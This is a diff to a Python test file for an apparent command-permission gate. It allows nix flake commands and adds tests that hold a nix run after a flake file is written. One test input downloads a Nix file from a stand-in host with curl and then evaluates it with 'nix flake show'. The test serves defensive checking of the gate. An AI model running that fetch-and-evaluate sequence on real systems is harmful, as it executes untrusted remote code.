@@ -280,8 +280,8 @@ HELD = {
     ],
 }
 
-#: the tree's flake evaluated or built: ordinary only once flow.py watches nix and *.nix
-#: (TREE_FLAKE_WATCHED); until then held
+#: the tree's flake evaluated or built: ordinary because flow.py watches nix and *.nix
+#: (TREE_FLAKE_WATCHED)
 TREE_FLAKE = [
     "nix flake metadata", "nix flake metadata --json . | jq .locks", "nix flake show",
     "nix flake check", "nix flake check --no-build", "nix build .#app -L", "nix build",
@@ -309,8 +309,19 @@ def test_held(tool: str) -> None:
 
 
 def test_tree_flake_follows_the_write_memory() -> None:
-    each(TREE_FLAKE, allowed if media.TREE_FLAKE_WATCHED else held)
+    assert media.TREE_FLAKE_WATCHED
+    each(TREE_FLAKE, allowed)
     each(FLAKE_HELD, held)
+
+
+@pytest.mark.parametrize(("write", "run"), [
+    ("echo x > flake.nix", "nix build"), ("echo x > nix/pkgs.nix", "nix flake check"),
+    ("curl -o overlay.nix https://e.example/x", "nix flake show"),
+    ("echo x > flake.nix", "nix path-info -rsSh ./result"),
+])
+def test_written_flake_holds_the_tool(write: str, run: str) -> None:
+    from .test_redteam_s11 import held_last
+    held_last(write, run)
 
 
 def test_entries_are_merged() -> None:
